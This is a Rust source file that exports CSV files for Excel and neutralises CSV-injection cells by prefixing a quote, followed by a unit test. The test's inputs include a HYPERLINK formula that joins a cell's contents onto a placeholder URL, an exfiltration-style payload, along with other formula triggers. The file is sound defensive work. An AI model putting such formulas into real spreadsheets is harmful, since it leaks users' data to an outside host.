//! CSV files that Excel opens correctly with Chinese text: UTF-8 with a byte-order mark,
//! written to `<name>.part` and renamed into place, so a failed export leaves no half file.
//!
//! Invariant: no cell can run as a spreadsheet formula. A cell that starts with `=`, `+`,
//! `-`, `@`, a tab or a carriage return gets a leading `'` ([`neutralise`], OWASP's rule for
//! CSV injection); plain numbers such as `-12.50` are left as they are. Every CSV writer of
//! the program goes through it.

use crate::error::{Error, Result};
use std::path::Path;

/// Writes `header` and `rows` to `path`; the number of rows written.
pub fn write<I, R>(path: &Path, header: &[&str], rows: I) -> Result<u64>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let tmp = path.with_extension("csv.part");
    let result = (|| -> Result<u64> {
        let mut out = std::io::BufWriter::new(std::fs::File::create(&tmp)?);
        std::io::Write::write_all(&mut out, "\u{feff}".as_bytes())?;
        let mut csv = csv::Writer::from_writer(out);
        let csv_err = |e: csv::Error| Error::Storage(format!("csv: {e}"));
        csv.write_record(header).map_err(csv_err)?;
        let mut n = 0;
        for row in rows {
            let cells: Vec<std::borrow::Cow<[u8]>> =
                row.into_iter().map(|c| neutralise(c.as_ref()).into_owned().into()).collect();
            csv.write_record(&cells).map_err(csv_err)?;
            n += 1;
        }
        let out = csv.into_inner().map_err(|e| Error::Storage(format!("csv: {e}")))?;
        out.into_inner().map_err(|e| Error::Storage(e.to_string()))?.sync_all()?;
        Ok(n)
    })();
    match result {
        Ok(n) => {
            std::fs::rename(&tmp, path)?;
            Ok(n)
        }
        Err(e) => {
            let _ = std::fs::remove_file(&tmp);
            Err(e)
        }
    }
}

/// A cell as it is safe to write: prefixed with `'` when a spreadsheet would read it as a
/// formula (starts with `=`, `+`, `-`, `@`, tab or carriage return), unless it is a plain
/// number.
pub fn neutralise(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    let risky = matches!(cell.first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
    if !risky || is_plain_number(cell) {
        return std::borrow::Cow::Borrowed(cell);
    }
    let mut out = Vec::with_capacity(cell.len() + 1);
    out.push(b'\'');
    out.extend_from_slice(cell);
    std::borrow::Cow::Owned(out)
}

fn is_plain_number(cell: &[u8]) -> bool {
    let body = match cell {
        [b'-' | b'+', rest @ ..] => rest,
        _ => cell,
    };
    let mut dot = false;
    !body.is_empty()
        && body[0].is_ascii_digit()
        && body.iter().all(|&c| {
            if c == b'.' && !dot {
                dot = true;
                true
            } else {
                c.is_ascii_digit()
            }
        })
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        let n = |s: &str| String::from_utf8(neutralise(s.as_bytes()).into_owned()).unwrap();
        assert_eq!(n("=HYPERLINK(\"http://x\"&A2,\"详情\")"), "'=HYPERLINK(\"http://x\"&A2,\"详情\")");
        assert_eq!(n("+86 138"), "'+86 138");
        assert_eq!(n("-1+1"), "'-1+1");
        assert_eq!(n("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(n("\tcmd"), "'\tcmd");
        assert_eq!(n("\r=1"), "'\r=1");
        assert_eq!(n("-12.50"), "-12.50");
        assert_eq!(n("+3"), "+3");
        assert_eq!(n("深圳市启明科技有限公司"), "深圳市启明科技有限公司");
        assert_eq!(n("a=b"), "a=b");
        assert_eq!(n(""), "");
    }
}
